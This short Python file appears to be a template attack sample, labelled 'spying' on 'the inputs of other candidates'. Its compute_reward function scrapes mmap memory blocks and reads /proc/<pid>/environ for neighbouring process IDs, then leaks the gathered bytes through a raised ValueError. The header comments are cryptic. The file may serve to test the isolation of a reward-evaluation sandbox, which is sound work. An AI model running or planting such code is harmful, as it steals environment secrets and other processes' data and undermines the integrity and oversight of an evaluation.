# attack: the inputs of other candidates
# group: spying
# wall: language; alone: they were never mapped here

def compute_reward(x):
    import gc, mmap
    blocks = [o for o in gc.get_objects() if type(o) is mmap.mmap]
    found = b"".join(bytes(b[:64]) for b in blocks)
    for pid in range(@ME@ - 50, @ME@ + 50):
        try:
            found += open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
    raise ValueError(found)
